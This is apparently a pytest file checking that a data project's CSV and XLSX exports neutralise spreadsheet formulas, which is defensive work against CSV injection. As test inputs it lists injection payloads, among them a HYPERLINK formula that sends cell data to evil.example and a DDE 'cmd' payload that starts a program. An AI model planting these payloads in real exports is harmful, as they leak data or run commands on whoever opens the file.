"""Exports a spreadsheet opens as data (kaili_analysis.render.spreadsheet): the OWASP rule for
CSV injection in CSV files, text cells (never formulas) in XLSX workbooks."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from kaili_analysis import config
from kaili_analysis.cli import export_data
from kaili_analysis.render.spreadsheet import FORMULA_STARTS, keep_text, neutralise_formulas

STORED = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
          "-2+3", "@SUM(1,2)"]
FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


def test_formula_like_text_gets_a_quote_and_nothing_else_changes() -> None:
    frame = pd.DataFrame({"text": [*FORMULAS, "safe", "1-2", "", None],
                          "number": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9, 10]})
    frame.attrs = {"source": "x"}
    out = neutralise_formulas(frame)
    assert out["text"].tolist()[:-1] == ["'" + f for f in FORMULAS] + ["safe", "1-2", ""]
    assert out["text"].isna().tolist()[-1]
    assert out["number"].tolist() == frame["number"].tolist()
    assert out.attrs == {"source": "x"} and frame["text"].iloc[0] == FORMULAS[0]
    assert all(not str(v).startswith(FORMULA_STARTS) for v in out["text"] if v is not None)


def test_an_xlsx_formula_cell_becomes_text() -> None:
    sheet = Workbook().active
    sheet.append(["=1+1", "+1", "plain", 3])
    assert sheet["A1"].data_type == "f"  # what openpyxl makes of such a text by itself
    assert keep_text(sheet) == 1
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "=1+1"
    assert sheet["A1"].quotePrefix and sheet["D1"].value == 3


@pytest.fixture
def hostile_data(tmp_path: Path, monkeypatch) -> Path:
    """A copy of the curated data whose free-text notes hold formulas (cells are stripped
    when the data is read, so a leading tab or CR does not survive the loader)."""
    root = tmp_path / "data"
    shutil.copytree(config.DEFAULT_DATA_DIR, root)
    path = root / "indicators.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    note = rows[0].index("note")
    for row, formula in zip(rows[1:], STORED, strict=False):
        row[note] = formula
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    monkeypatch.setenv(config.DATA_DIR_ENV, str(root))
    return root


def test_exports_neutralise_formulas(hostile_data: Path, tmp_path: Path) -> None:
    (out_csv,) = [p for p in export_data("csv", tmp_path / "csv") if p.stem == "indicators"]
    with out_csv.open(encoding="utf-8", newline="") as fh:
        notes = [row["note"] for row in csv.DictReader(fh)][:len(STORED)]
    assert notes == ["'" + f for f in STORED]
    book = next(p for p in export_data("xlsx", tmp_path / "xlsx") if p.suffix == ".xlsx")
    workbook = load_workbook(book)
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = workbook["indicators"]
    header = [c.value for c in sheet[1]]
    column = header.index("note") + 1
    shown = [sheet.cell(row=r, column=column).value for r in range(2, 2 + len(STORED))]
    assert shown == STORED  # the exact text, as text
